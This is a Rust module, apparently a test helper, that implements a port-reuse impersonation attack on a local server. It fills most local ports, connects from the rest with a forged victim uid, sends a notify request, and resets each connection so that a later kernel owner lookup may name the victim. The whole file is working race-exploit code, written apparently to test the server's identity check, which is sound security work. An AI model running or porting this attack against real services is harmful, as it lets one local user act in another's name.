//! Impersonation by a reused port. The attacker claims to be the victim, sends its requests with
//! the claim, and resets the connection. If the server asks the kernel for the port's owner later,
//! the kernel may name another user. The attacker keeps all other ports in use, so that the victim,
//! which connects all the time, soon gets that port.
use super::{own_user, tool};
use crate::raw_client::encoded;
use anyhow::{Context, Result, bail};
use peal_model::{Range, Request, Status};
use peal_wire::{ClaimedUser, Codec, DecodeLimits, Frame, Tag};
use rustix::net::{AddressFamily, SocketType, bind, connect, socket, sockopt};
use std::{
    fs,
    io::{Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    os::fd::OwnedFd,
    thread,
    time::{Duration, Instant},
};

/// Code of the event that is raised in another user's name.
pub const FORGED: Status = Status(-4242);
/// Number of ports that are left to the victim. The attacker connects from all of them but one at
/// once. The checks of the ports that the victim did not get delay the other checks.
const FREE_PORTS: u16 = 6;
/// Times between the bytes and the reset, in microseconds. The server should have read the bytes,
/// and not have asked the kernel yet.
const DELAYS: [u64; 6] = [0, 20, 50, 100, 200, 500];
/// Time after which the attacker ends, even with fewer connections.
const LONGEST: Duration = Duration::from_secs(120);
/// File with the range of ports that the kernel assigns to sockets without a chosen port.
const PORTS: &str = "/proc/sys/net/ipv4/ip_local_port_range";

/// Returns the bytes of a tool that raises an event in its first frame.
fn raising(user: ClaimedUser, name: &str) -> Result<Vec<u8>> {
    let hello = tool(user, name);
    let notify = Request::Notify {
        code: FORGED,
        range: Range::Session,
        infos: Vec::new(),
    };
    let payload = Codec::of(&hello, DecodeLimits::default()).encode_request(&notify)?;
    Ok([
        encoded(&hello),
        Frame {
            pindex: 0,
            tag: Tag(101),
            payload,
        }
        .encode()?,
    ]
    .concat())
}

/// Raises the event as the user of this process, under this name, and waits for the answer.
pub fn raise(server: SocketAddr, name: &str) -> Result<()> {
    let mut stream = TcpStream::connect(server)?;
    stream.write_all(&raising(own_user(), name)?)?;
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    let mut answer = Vec::new();
    // These are the welcome and the answer to the first request.
    while answer.len() < 40 {
        let mut bytes = [0; 64];
        match stream.read(&mut bytes)? {
            0 => bail!("the server closes after {answer:?}"),
            count => answer.extend_from_slice(&bytes[..count]),
        }
    }
    Ok(())
}

/// Tries this number of times to raise the event as the victim. Prints the number of connections.
pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
    let forged = raising(
        ClaimedUser {
            uid: victim,
            gid: victim,
        },
        "forged",
    )?;
    let (first, last) = port_range()?;
    let free = first..first + FREE_PORTS;
    let _taken: Vec<OwnedFd> = (free.end..=last)
        .filter_map(|port| bound(port).ok())
        .collect();
    let mut made = 0;
    let start = Instant::now();
    for (left, delay) in free.clone().cycle().zip(DELAYS.into_iter().cycle()) {
        if made >= tries || start.elapsed() > LONGEST {
            break;
        }
        let ports = free.clone().filter(|port| *port != left);
        // While the victim has one port, the attacker uses the others.
        let claims: Vec<TcpStream> = ports
            .filter_map(|port| claim(port, server, &forged).ok())
            .collect();
        made += u32::try_from(claims.len())?;
        if delay > 0 {
            thread::sleep(Duration::from_micros(delay));
        }
        drop(claims);
        thread::yield_now();
    }
    println!("{made}");
    Ok(())
}

fn port_range() -> Result<(u16, u16)> {
    let text = fs::read_to_string(PORTS).with_context(|| format!("reading {PORTS}"))?;
    let mut numbers = text.split_whitespace().map(str::parse);
    match (numbers.next(), numbers.next()) {
        (Some(Ok(first)), Some(Ok(last))) => Ok((first, last)),
        _ => bail!("{PORTS} has no range of ports: {text:?}"),
    }
}

/// Returns a socket that occupies a port.
fn bound(port: u16) -> Result<OwnedFd> {
    let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    bind(&socket, &SocketAddr::from((Ipv4Addr::LOCALHOST, port)))?;
    Ok(socket)
}

/// Connects from a port and sends these bytes. The connection is reset when it is dropped.
fn claim(port: u16, server: SocketAddr, bytes: &[u8]) -> Result<TcpStream> {
    let socket = bound(port)?;
    connect(&socket, &server)?;
    let mut stream = TcpStream::from(socket);
    sockopt::set_socket_linger(&stream, Some(Duration::ZERO))?;
    // The server may have closed the connection by now.
    let _ = stream.write_all(bytes);
    Ok(stream)
}
